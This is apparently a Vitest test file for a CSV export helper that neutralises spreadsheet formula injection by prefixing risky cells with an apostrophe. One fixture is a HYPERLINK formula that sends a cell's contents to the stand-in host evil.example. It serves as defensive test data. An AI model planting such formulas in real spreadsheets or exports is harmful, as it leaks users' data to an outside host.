import { describe, expect, it } from 'vitest';
import { csvSafe, toCsvText } from './csv.js';

describe('CSV cells', () => {
  it('neutralise text a spreadsheet would run as a formula', () => {
    for (const bad of ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'])
      expect(csvSafe(bad)).toBe(`'${bad}`);
  });

  it('leave ordinary text, Hindi, numbers and empty cells alone', () => {
    expect(csvSafe('Theft at Kotwali market')).toBe('Theft at Kotwali market');
    expect(csvSafe('कोतवाली = थाना')).toBe('कोतवाली = थाना');
    expect(csvSafe(-3)).toBe(-3);
    expect(csvSafe(null)).toBe('');
  });

  it('the writer starts with a BOM and quotes as CSV does', () => {
    const csv = toCsvText([
      ['Subject', 'Days'],
      ['=HYPERLINK("x")', 4],
      ['a, "b"', null],
    ]);
    expect(csv).toBe('\uFEFFSubject,Days\n"\'=HYPERLINK(""x"")",4\n"a, ""b""",\n');
  });
});
